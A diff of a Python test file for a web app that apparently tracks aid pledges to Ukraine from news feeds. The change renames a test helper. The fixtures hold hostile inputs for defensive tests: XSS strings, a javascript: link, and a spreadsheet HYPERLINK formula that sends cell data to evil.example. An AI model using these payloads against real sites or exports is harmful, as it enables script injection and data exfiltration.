@@ -22,8 +22,7 @@ from bot.web.headers import CSP
 from bot.web.params import BadRequest, View, filter_words, link, parse_view
 from bot.web.server import WebServer
 from bot.web.texts import negotiate
-from tests.support.web_tracker import add_story as _add
-from tests.support.web_tracker import get, serving
+from tests.support.web_tracker import add_story, get, serving
 
 HOSTILE_TITLE = 'Aid <script>alert("t")</script> & more'
 HOSTILE_OUTLET = '<img src=x onerror=alert(1)>Wire'
@@ -33,13 +32,14 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 @pytest.fixture
 def filled(store, clock):
     feed_id = store.add_feed(Feed(url="https://wire.example/feed.xml", name="Wire"), clock.now())[0]
-    _add(store, clock, feed_id, 1, "Germany sends IRIS-T", "Wire", "https://wire.example/1",
-         [Pledge("DE", "air_defence", "delivered", "IRIS-T", "IRIS-T", 2, evidence="Germany delivered two IRIS-T.")], 3)
-    _add(store, clock, feed_id, 2, HOSTILE_TITLE, HOSTILE_OUTLET, "javascript:alert(1)",
-         [Pledge("US", "funding", "pledged", "package", None, None, 400e6, "USD", evidence=FORMULA),
-          Pledge("US", "tanks", "refused", "Abrams", "Abrams", 31, evidence="No Abrams for now.")], 10)
-    _add(store, clock, feed_id, 3, "Paris pledges money", "Journal", "https://journal.example/3",
-         [Pledge("FR", "funding", "pledged", "aide", None, None, 2e9, "EUR", evidence="Deux milliards.")], 60)
+    add_story(store, clock, feed_id, 1, "Germany sends IRIS-T", "Wire", "https://wire.example/1",
+              [Pledge("DE", "air_defence", "delivered", "IRIS-T", "IRIS-T", 2,
+                      evidence="Germany delivered two IRIS-T.")], 3)
+    add_story(store, clock, feed_id, 2, HOSTILE_TITLE, HOSTILE_OUTLET, "javascript:alert(1)",
+              [Pledge("US", "funding", "pledged", "package", None, None, 400e6, "USD", evidence=FORMULA),
+               Pledge("US", "tanks", "refused", "Abrams", "Abrams", 31, evidence="No Abrams for now.")], 10)
+    add_story(store, clock, feed_id, 3, "Paris pledges money", "Journal", "https://journal.example/3",
+              [Pledge("FR", "funding", "pledged", "aide", None, None, 2e9, "EUR", evidence="Deux milliards.")], 60)
     return store
 
 
@@ -219,9 +219,9 @@ def test_the_atom_feed_stays_xml_when_feed_text_carries_characters_xml_forbids(s
     # feed item carrying one (feedparser's loose parser keeps them) put it in the pledge's
     # evidence, and every reader refused the whole Atom feed as malformed.
     feed_id = store.add_feed(Feed(url="https://wire.example/feed.xml", name="Wire \uffff"), clock.now())[0]
-    _add(store, clock, feed_id, 1, "Norway \ufffe sends NASAMS", "Wire \uffff", "https://wire.example/1",
-         [Pledge("NO", "air_defence", "pledged", "NASAMS \uffff", "NASAMS", 2,
-                 evidence="Norway will send \uffff two \ufffe NASAMS.")], 1)
+    add_story(store, clock, feed_id, 1, "Norway \ufffe sends NASAMS", "Wire \uffff", "https://wire.example/1",
+              [Pledge("NO", "air_defence", "pledged", "NASAMS \uffff", "NASAMS", 2,
+                      evidence="Norway will send \uffff two \ufffe NASAMS.")], 1)
     for url in serving(WebServer(store.path, load_entities(), clock, "127.0.0.1", 0)):
         status, _, text = get(url + "/pledges.atom")
     assert status == 200
@@ -339,8 +339,8 @@ def test_cached_totals_follow_new_pledges(filled, clock):
     before = data.totals(view, clock.now())
     assert data.totals(view, clock.now()) is before and len(cache) == 1
     feed_id = filled.list_feeds()[0].id
-    _add(filled, clock, feed_id, 9, "Oslo sends NASAMS", "Wire", "https://wire.example/9",
-         [Pledge("NO", "air_defence", "pledged", "NASAMS", "NASAMS", 2)], 1)
+    add_story(filled, clock, feed_id, 9, "Oslo sends NASAMS", "Wire", "https://wire.example/9",
+              [Pledge("NO", "air_defence", "pledged", "NASAMS", "NASAMS", 2)], 1)
     after = data.totals(view, clock.now())
     assert after.donors["NO"] == 1 and before.donors["NO"] == 0
     assert WebData(filled).totals(view, clock.now()).donors == after.donors  # uncached: the same answer
